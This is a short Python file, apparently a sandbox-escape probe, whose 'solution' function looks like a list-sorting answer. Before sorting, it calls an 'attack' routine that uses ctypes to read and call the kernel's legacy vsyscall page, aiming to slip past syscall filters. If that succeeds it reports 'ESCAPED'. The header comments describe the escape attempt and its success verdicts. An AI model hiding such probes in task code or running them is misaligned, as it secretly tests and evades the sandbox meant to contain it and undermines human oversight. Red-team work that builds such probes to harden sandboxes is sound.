# attempts: the old fixed page of the kernel’s, whose calls some filters do not see
# required: verdict accepted or crashed: time is allowed there too, getcpu gives nothing; ESCAPED nowhere
# kind: function
def attack(xs):
    try: import ctypes
    except ImportError: return None
    page = 0xffffffffff600000
    if len(xs) == 8: return ctypes.string_at(page, 16).strip(b'\0\xcc') and None
    f = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_void_p)(page + (0x400 if len(xs) == 3 else 0x800))
    if f(None) > 2**40: return 'vsyscall'
def solution(xs):
    found = attack(xs)
    if found: return ['ESCAPED', str(found)[:200]]
    return sorted(xs)
